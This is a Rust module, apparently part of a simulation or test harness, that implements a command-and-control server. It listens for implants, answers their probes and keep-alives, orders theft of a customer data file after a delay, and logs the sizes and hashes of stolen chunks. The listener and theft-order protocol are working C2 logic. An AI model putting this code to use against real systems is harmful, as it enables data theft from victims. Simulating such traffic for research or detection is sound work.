//! The intruder's server: answers probes, keeps the implant alive, orders the theft, and records what arrives.

use super::message::{Message, Setting, wide};
use super::{Arguments, Dice, leash, now_ns, sha256};
use serde_json::{Value, json};
use std::io::{Read, Result, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

/// Everything that reached the intruder.
#[derive(Clone, Debug, Default)]
struct Loot {
    connections: u64,
    messages: u64,
    raw_bytes: u64,
    stolen_bytes: u64,
    machine_info_bytes: u64,
    keep_alives: u64,
    chunks: Vec<Value>,
    first_at_ns: u64,
    last_at_ns: u64,
}

/// Counts what a connection yields before anything is made of it.
struct Counted<'a> {
    stream: &'a TcpStream,
    loot: &'a Mutex<Loot>,
}

impl Read for Counted<'_> {
    fn read(&mut self, buffer: &mut [u8]) -> Result<usize> {
        let got = Read::read(&mut self.stream, buffer)?;
        if got > 0 {
            let mut loot = self.loot.lock().unwrap();
            loot.raw_bytes += got as u64;
            loot.last_at_ns = now_ns();
            if loot.first_at_ns == 0 {
                loot.first_at_ns = loot.last_at_ns;
            }
        }
        Ok(got)
    }
}

/// `intruder --settings PORT=SETTING,… [--theft-after-ms N] [--path TEXT] [--seed N]`.
pub fn run(arguments: &Arguments) {
    let loot = Arc::new(Mutex::new(Loot::default()));
    let theft_after = arguments
        .text("theft-after-ms")
        .map(|_| Duration::from_millis(arguments.number("theft-after-ms", 0)));
    let path = arguments.text("path").unwrap_or("C:\\data\\customers.csv").to_owned();
    for (nth, pair) in (1_u64..).zip(arguments.need("settings").split(',')) {
        let (port, setting) = pair.split_once('=').expect("PORT=SETTING");
        let setting = Setting::named(setting);
        let listener = TcpListener::bind(("::", port.parse::<u16>().expect("a port")))
            .expect("the intruder listens");
        let (loot, path) = (Arc::clone(&loot), path.clone());
        let seed = arguments.number("seed", 7) + nth * 1_000_003;
        std::thread::spawn(move || {
            for (turn, stream) in (1_u64..).zip(listener.incoming().map_while(Result::ok)) {
                let (loot, path) = (Arc::clone(&loot), path.clone());
                std::thread::spawn(move || {
                    serve(&stream, setting, seed.wrapping_mul(turn), theft_after, &path, &loot)
                });
            }
        });
    }
    leash(&super::ready(), |question| match question {
        "report" => report(&loot.lock().unwrap()),
        other => json!({"error": format!("unknown question {other}")}),
    });
}

fn report(loot: &Loot) -> Value {
    json!({
        "connections": loot.connections, "messages": loot.messages, "raw_bytes": loot.raw_bytes,
        "stolen_bytes": loot.stolen_bytes, "machine_info_bytes": loot.machine_info_bytes, "keep_alives": loot.keep_alives,
        "chunks": loot.chunks, "first_at_ns": loot.first_at_ns, "last_at_ns": loot.last_at_ns,
    })
}

/// Talks with one implant until it goes; what it says is kept, why it goes is of no interest.
fn serve(
    stream: &TcpStream,
    setting: Setting,
    seed: u64,
    theft_after: Option<Duration>,
    path: &str,
    loot: &Mutex<Loot>,
) {
    let _gone = stream.set_nodelay(true);
    loot.lock().unwrap().connections += 1;
    let began = Instant::now();
    let mut dice = Dice(seed);
    let mut ordered = false;
    let mut say =
        |message: &Message| (&mut &*stream).write_all(&message.encipher(setting, key(&mut dice)));
    while let Ok(message) = Message::read(&mut Counted { stream, loot }, setting) {
        let answer = match message.command {
            0 => Some(Message::empty(1)),
            2 => Some(Message::empty(2)),
            _ => None,
        };
        keep(&message, &mut loot.lock().unwrap());
        if answer.is_some_and(|answer| say(&answer).is_err()) {
            break;
        }
        if !ordered
            && message.command == 2
            && theft_after.is_some_and(|after| began.elapsed() >= after)
        {
            ordered = true;
            if say(&Message { command: 0x3004, body: wide(path) }).is_err() {
                break;
            }
        }
    }
}

fn keep(message: &Message, loot: &mut Loot) {
    loot.messages += 1;
    match message.command {
        1 => loot.machine_info_bytes += message.body.len() as u64,
        2 => loot.keep_alives += 1,
        0x3005 => {
            loot.stolen_bytes += message.body.len() as u64;
            loot.chunks.push(json!({"bytes": message.body.len(), "sha256": sha256(&message.body), "at_ns": now_ns()}));
        }
        _ => {}
    }
}

/// A key of a message: never zero, so that the header never is.
pub(super) fn key(dice: &mut Dice) -> u32 {
    u32::try_from(dice.roll() >> 32).unwrap_or(1).max(1)
}
